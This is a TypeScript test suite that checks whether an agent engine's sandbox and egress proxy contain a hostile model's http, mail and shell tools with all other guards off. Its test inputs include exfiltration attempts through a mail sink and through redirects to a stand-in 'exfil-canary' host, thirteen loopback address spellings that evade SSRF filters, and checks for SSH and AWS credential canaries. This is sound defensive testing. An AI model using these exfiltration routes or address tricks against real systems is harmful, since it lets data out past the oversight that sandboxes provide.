// The built-in http and mail capabilities in their sandboxes, Shield off: a real Engine with the
// permissive policy and every detector disabled, and the http capability's own address guard
// switched off too (config `network.allow_private: true`), so only the sandbox stands between a
// hostile model and the machine. Each attempt is checked by its effect: listeners never hit, an
// SMTP server never connected to, files the capability process sees (through /proc/<pid>/root).
import { readFileSync, readdirSync, readlinkSync, writeFileSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import type { Server } from "node:http";
import { createServer as createTcpServer } from "node:net";
import type { Server as TcpServer } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { probeSandbox } from "@palisade/sandbox";
import { CANARY, startContainment } from "./harness.js";
import type { Containment, TurnResult } from "./harness.js";

const probe = await probeSandbox();
if (!probe.available && process.env.CI) throw new Error(`CI must run the containment proofs: ${probe.reason}`);

interface Listener {
  port: number;
  hits: string[];
  close(): Promise<void>;
}

/** An HTTP server recording each request; `/redirect?to=URL` answers 302 to URL (an open redirect). */
async function httpListener(): Promise<Listener> {
  const hits: string[] = [];
  const server: Server = createHttpServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    const to = new URL(req.url ?? "/", "http://x").searchParams.get("to");
    if (to) res.writeHead(302, { location: to }).end();
    else res.end("LISTENER-REACHED\n");
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return {
    port: (server.address() as { port: number }).port,
    hits,
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

/**
 * A minimal SMTP server: records every connection, and the subject of each message it accepts.
 * Enough for nodemailer's plain (no TLS, no AUTH) dialogue.
 */
async function smtpSink(): Promise<Listener & { subjects: string[] }> {
  const hits: string[] = [];
  const subjects: string[] = [];
  const server: TcpServer = createTcpServer((socket) => {
    hits.push("connection");
    let buffer = "";
    let inData = false;
    socket.on("error", () => undefined);
    socket.write("220 sink ESMTP\r\n");
    socket.on("data", (chunk: Buffer) => {
      buffer += chunk.toString("utf8");
      for (;;) {
        if (inData) {
          const end = buffer.indexOf("\r\n.\r\n");
          if (end < 0) return;
          const subject = /^Subject: (.*)$/m.exec(buffer.slice(0, end))?.[1];
          if (subject !== undefined) subjects.push(subject.trim());
          buffer = buffer.slice(end + 5);
          inData = false;
          socket.write("250 queued\r\n");
          continue;
        }
        const eol = buffer.indexOf("\r\n");
        if (eol < 0) return;
        const line = buffer.slice(0, eol);
        buffer = buffer.slice(eol + 2);
        const verb = line.slice(0, 4).toUpperCase();
        if (verb === "EHLO" || verb === "HELO") socket.write("250 sink\r\n");
        else if (verb === "DATA") {
          inData = true;
          socket.write("354 go on\r\n");
        } else if (verb === "QUIT") socket.end("221 bye\r\n");
        else socket.write("250 ok\r\n");
      }
    });
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return {
    port: (server.address() as { port: number }).port,
    hits,
    subjects,
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

function ran(r: TurnResult): string {
  expect(
    r.verdicts.every((v) => v === "ALLOW" || v === "ESCALATE"),
    `verdicts ${r.verdicts.join(",")}`,
  ).toBe(true);
  expect(r.executed, "the capability executed the call").toBeGreaterThan(0);
  return r.results.join("\n");
}

const get = (url: string): { name: string; arguments: Record<string, unknown> } => ({
  name: "http__http_request",
  arguments: { method: "GET", url },
});
const mail = (subject: string): { name: string; arguments: Record<string, unknown> } => ({
  name: "mail__send_email",
  arguments: { to: "alice@example.com", subject, body: `body of ${subject}` },
});

/** The pid of this Engine's sandboxed process running `entry` (a capability's dist/main.js). */
function capabilityPid(entry: string): number {
  const ancestors = (pid: number): number[] => {
    const out: number[] = [];
    for (let p = pid; p > 1;) {
      const stat = readFileSync(`/proc/${p}/stat`, "utf8");
      p = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
      out.push(p);
    }
    return out;
  };
  const found = readdirSync("/proc")
    .filter((d) => /^\d+$/.test(d))
    .map(Number)
    .filter((pid) => {
      try {
        const argv = readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0");
        return argv[1] === entry && ancestors(pid).includes(process.pid);
      } catch {
        return false;
      }
    });
  expect(found, `one sandboxed process runs ${entry}`).toHaveLength(1);
  return found[0] as number;
}

/** What the process sees at `path` inside its sandbox. */
function seen(pid: number, path: string): { entries?: string[]; text?: string; error?: string } {
  const at = `/proc/${pid}/root${path}`;
  try {
    return { entries: readdirSync(at) };
  } catch (err) {
    if ((err as NodeJS.ErrnoException).code !== "ENOTDIR")
      return { error: (err as NodeJS.ErrnoException).code ?? String(err) };
  }
  try {
    return { text: readFileSync(at, "utf8") };
  } catch (err) {
    return { error: (err as NodeJS.ErrnoException).code ?? String(err) };
  }
}

describe.skipIf(!probe.available)(
  "http and mail, Shield off and their own guards off: only the proxy lets anything out",
  () => {
    let h: Containment;
    let listener: Listener;
    let sink: Awaited<ReturnType<typeof smtpSink>>;

    beforeAll(async () => {
      [listener, sink] = await Promise.all([httpListener(), smtpSink()]);
      h = await startContainment({
        policy: "shield-off",
        groups: ["http", "mail"],
        capabilities: [
          // The manifests' own network policy (any public host), so the Shield has no host rule to
          // apply either: the proxy's refusal of private addresses is all there is.
          "  - { id: http, config: { network: { mode: any, allow_private: true } } }",
          "  - { id: documents, enabled: false }",
          `  - { id: mail, credentials: { SMTP_HOST: localhost, SMTP_PORT: "${sink.port}", SMTP_FROM: bot@palisade.test } }`,
        ],
      });
    }, 90_000);
    afterAll(async () => {
      await h?.close();
      await listener?.close();
      await sink?.close();
    });

    it("http and mail run in bubblewrap with network only through the proxy (engine status says so)", async () => {
      const status = await h.client.getStatus({});
      const http = status.capabilities.find((c) => c.id === "http");
      const mailCap = status.capabilities.find((c) => c.id === "mail");
      // Nothing called them yet: they start on their first call, in the sandbox described here.
      expect(http?.state).toBe("stopped");
      expect(mailCap?.state).toBe("stopped");
      expect(http?.sandbox).toMatch(
        /^bubblewrap: system read-only, its code read-only, home empty and private, private \/tmp and \/run, no host socket, own pid namespace, network via proxy \(public hosts\)/,
      );
      expect(mailCap?.sandbox).toMatch(
        /^bubblewrap: system read-only, its code read-only, home empty and private, private \/tmp and \/run, no host socket, own pid namespace, network via proxy \(public hosts\)/,
      );
    });

    it("http: a loopback listener is never reached, by address or by a name that resolves to it", async () => {
      const p = listener.port;
      const out = ran(
        await h.turn([
          get(`http://127.0.0.1:${p}/literal`),
          get(`http://localhost:${p}/by-name`),
          get(`https://localhost:${p}/tls`),
          get(`http://[::1]:${p}/v6`),
        ]),
      );
      expect(out).not.toContain("LISTENER-REACHED");
      expect(listener.hits).toEqual([]);
      expect(out).toMatch(/refused by the sandbox's egress proxy/);
      // The name was resolved by the proxy, and the address it resolved to refused.
      expect(
        h.logs.some((l) => /egress refused for http: GET localhost:\d+: refused localhost: .*loopback/.test(l)),
      ).toBe(true);
    });

    it("mail: an SMTP host on loopback is never connected to; the tool fails cleanly and the Engine lives", async () => {
      const out = ran(await h.turn([mail("exfil through smtp")]));
      expect(out).toMatch(/sending the email through .* failed: the sandbox's egress proxy refused the connection/);
      expect(sink.hits).toEqual([]);
      expect(
        h.logs.some((l) => /egress refused for mail: CONNECT localhost:\d+: refused localhost: .*loopback/.test(l)),
      ).toBe(true);
      expect((await h.client.getStatus({})).capabilities.find((c) => c.id === "mail")?.state).toBe("ready");
    });

    it.each([
      ["http", "@palisade/capability-http"],
      ["mail", "@palisade/capability-mail"],
    ])("%s: the data directory, ~/.ssh, ~/.aws and the Engine's processes are not there", async (_id, pkg) => {
      const { command } = (await import(pkg)) as { command: readonly string[] };
      const pid = capabilityPid(command[1] ?? "");
      // Another root: the process has its own mount namespace.
      expect(readlinkSync(`/proc/${pid}/ns/mnt`)).not.toBe(readlinkSync("/proc/self/ns/mnt"));
      // Not in its view at all; the home is an empty directory of its own.
      expect(seen(pid, h.dataDir)).toEqual({ error: "ENOENT" });
      expect(seen(pid, h.home)).toEqual({ entries: [] });
      expect(seen(pid, join(h.home, ".ssh"))).toEqual({ error: "ENOENT" });
      expect(seen(pid, join(h.home, ".aws"))).toEqual({ error: "ENOENT" });
      expect(seen(pid, join(h.home, ".ssh", "id_ed25519")).text ?? "").not.toContain(CANARY.ssh);
      // Its /proc is its own pid namespace's: the Engine (this process) is not in it.
      expect(seen(pid, `/proc/${process.pid}/environ`).text ?? "").not.toContain(CANARY.env);
      const procs = (seen(pid, "/proc").entries ?? []).filter((e) => /^\d+$/.test(e)).map(Number);
      expect(procs.length).toBeGreaterThan(0);
      expect(Math.max(...procs)).toBeLessThan(100);
    });
  },
);

describe.skipIf(!probe.available)(
  "http and mail with an explicit loopback allowance (sandbox.allow_addresses): only allowlisted ports",
  () => {
    let h: Containment;
    let good: Listener;
    let other: Listener;
    let sink: Awaited<ReturnType<typeof smtpSink>>;

    beforeAll(async () => {
      [good, other, sink] = await Promise.all([httpListener(), httpListener(), smtpSink()]);
      h = await startContainment({
        policy: "shield-off",
        groups: ["http", "mail"],
        capabilities: [
          `  - { id: http, networkMode: allowlist, allowHosts: ["127.0.0.1:${good.port}"], config: { network: { mode: any, allow_private: true } } }`,
          "  - { id: documents, enabled: false }",
          `  - { id: mail, networkMode: allowlist, allowHosts: ["127.0.0.1:${sink.port}"], credentials: { SMTP_HOST: 127.0.0.1, SMTP_PORT: "${sink.port}", SMTP_FROM: bot@palisade.test } }`,
        ],
        // The testing allowance: without it (the default) nothing on loopback is ever dialed.
        extraConfig: ["sandbox:", "  allow_addresses: [127.0.0.1]"],
      });
    }, 90_000);
    afterAll(async () => {
      await h?.close();
      await Promise.all([good?.close(), other?.close(), sink?.close()]);
    });

    it("http reaches the allowlisted listener through the proxy", async () => {
      const out = ran(await h.turn([get(`http://127.0.0.1:${good.port}/through-proxy`)]));
      expect(out).toContain("LISTENER-REACHED");
      expect(good.hits).toEqual(["GET /through-proxy"]);
    });

    // A URL outside the allowlist is stopped by the Shield's network rule; a redirect from an
    // allowed host is not (the Shield sees the first URL only): the proxy must stop it.
    it("a redirect to another port on the same address is never followed through", async () => {
      good.hits.length = 0;
      const to = encodeURIComponent(`http://127.0.0.1:${other.port}/via-redirect`);
      const out = ran(await h.turn([get(`http://127.0.0.1:${good.port}/redirect?to=${to}`)]));
      expect(out).toMatch(/refused by the sandbox's egress proxy/);
      expect(good.hits).toHaveLength(1);
      expect(other.hits).toEqual([]);
    });

    it("a redirect to a name outside the allowlist is refused before the name is resolved", async () => {
      const out = ran(
        await h.turn([
          get(
            `http://127.0.0.1:${good.port}/redirect?to=${encodeURIComponent("http://exfil-canary.example/leak?k=1")}`,
          ),
          get(`http://127.0.0.1:${good.port}/redirect?to=${encodeURIComponent("https://exfil-canary.example/leak")}`),
        ]),
      );
      expect(out).toMatch(/refused by the sandbox's egress proxy/);
      const refused = h.logs.filter((l) => l.includes("exfil-canary.example"));
      expect(refused).toHaveLength(2);
      for (const line of refused) {
        expect(line).toMatch(
          /egress refused for http: (GET|CONNECT) exfil-canary\.example:(80|443): .*not in this capability's network allowlist/,
        );
        expect(line).not.toMatch(/could not resolve/);
      }
    });

    it("mail delivers through the proxy to the allowlisted SMTP server", async () => {
      const out = ran(await h.turn([mail("hello through the tunnel")]));
      expect(out).toContain('"ok":true');
      expect(sink.subjects).toEqual(["hello through the tunnel"]);
    });
  },
);

describe.skipIf(!probe.available)("mail pinned to one SMTP server (networkMode: allowlist)", () => {
  let h: Containment;
  let sink: Awaited<ReturnType<typeof smtpSink>>;

  beforeAll(async () => {
    sink = await smtpSink();
    h = await startContainment({
      policy: "shield-off",
      groups: ["mail"],
      capabilities: [
        "  - { id: http, enabled: false }",
        "  - { id: documents, enabled: false }",
        // The SMTP host it is configured with is not the one its allowlist names, although both
        // lead to the same server and loopback is allowed here.
        `  - { id: mail, networkMode: allowlist, allowHosts: ["smtp.allowed.example:${sink.port}"], credentials: { SMTP_HOST: localhost, SMTP_PORT: "${sink.port}", SMTP_FROM: bot@palisade.test } }`,
      ],
      extraConfig: ["sandbox:", "  allow_addresses: [127.0.0.1]"],
    });
  }, 90_000);
  afterAll(async () => {
    await h?.close();
    await sink?.close();
  });

  it("an SMTP host outside the allowlist is never connected to, nor resolved", async () => {
    const out = ran(await h.turn([mail("to a host not allowed")]));
    expect(out).toMatch(/the sandbox's egress proxy refused the connection/);
    expect(sink.hits).toEqual([]);
    const refused = h.logs.filter((l) => l.includes("egress refused for mail"));
    expect(refused).toHaveLength(1);
    expect(refused[0]).toMatch(/CONNECT localhost:\d+: localhost:\d+ is not in this capability's network allowlist/);
  });
});

/**
 * Raw CONNECT requests to the in-sandbox proxy relay (HTTPS_PROXY), one per authority given; prints
 * per authority the proxy's status line and whether the tunnel reached the listener.
 */
const CONNECT_PROBE = `
import os, socket, sys, urllib.parse
proxy = urllib.parse.urlparse(os.environ["HTTPS_PROXY"])
for authority in sys.argv[1:]:
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
    s.sendall(f"CONNECT {authority} HTTP/1.1\\r\\nHost: {authority}\\r\\n\\r\\n".encode())
    data = s.recv(4096)
    if data.startswith(b"HTTP/1.1 200"):
        s.sendall(b"GET /tunnel HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
        while True:
            more = s.recv(4096)
            if not more: break
            data += more
    s.close()
    print("PROBE", authority, data.split(b"\\r\\n")[0].decode(errors="replace")[:60], "REACHED" if b"LISTENER-REACHED" in data else "not-reached")
`;

describe.skipIf(!probe.available)(
  "shell with network: any: every spelling of this host's loopback is refused by the proxy",
  () => {
    let h: Containment;
    let listener: Listener;

    beforeAll(async () => {
      listener = await httpListener();
      h = await startContainment({
        policy: "shield-off",
        capabilities: [
          "  - { id: shell, networkMode: any }",
          ...["http", "documents", "mail"].map((id) => `  - { id: ${id}, enabled: false }`),
        ],
      });
      writeFileSync(join(h.workspace, "connect_probe.py"), CONNECT_PROBE);
    }, 90_000);
    afterAll(async () => {
      await h?.close();
      await listener?.close();
    });

    it("CONNECT [0::ffff:127.0.0.1]:PORT and the other spellings never reach a loopback listener", async () => {
      const p = listener.port;
      const spellings = [
        "[0::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[0:0:0:0:0:ffff:127.0.0.1]",
        "[0000:0000:0000:0000:0000:ffff:7f00:0001]",
        "[::ffff:0:127.0.0.1]",
        "[::127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "2130706433",
        "0177.0.0.1",
        "0x7f.1",
        "127.1",
        "127.0.0.1.",
        "localhost.",
      ];
      const out = ran(await h.sh(`python3 connect_probe.py ${spellings.map((s) => `'${s}:${p}'`).join(" ")}`));
      const lines = out.split("\n").filter((l) => l.startsWith("PROBE "));
      expect(lines, out).toHaveLength(spellings.length);
      for (const line of lines) expect(line).toMatch(/ HTTP\/1\.1 403 .* not-reached$/);
      expect(listener.hits).toEqual([]);
    });

    it("a target that does not parse (a zone id, an IPv4 out of range) is refused with 400 and never dialed", async () => {
      const out = ran(
        await h.sh(`python3 connect_probe.py '[fe80::1%25lo]:${listener.port}' '999.1.1.1:${listener.port}'`),
      );
      const lines = out.split("\n").filter((l) => l.startsWith("PROBE "));
      expect(lines).toHaveLength(2);
      for (const line of lines) expect(line).toMatch(/ HTTP\/1\.1 400 .* not-reached$/);
      expect(listener.hits).toEqual([]);
    });
  },
);
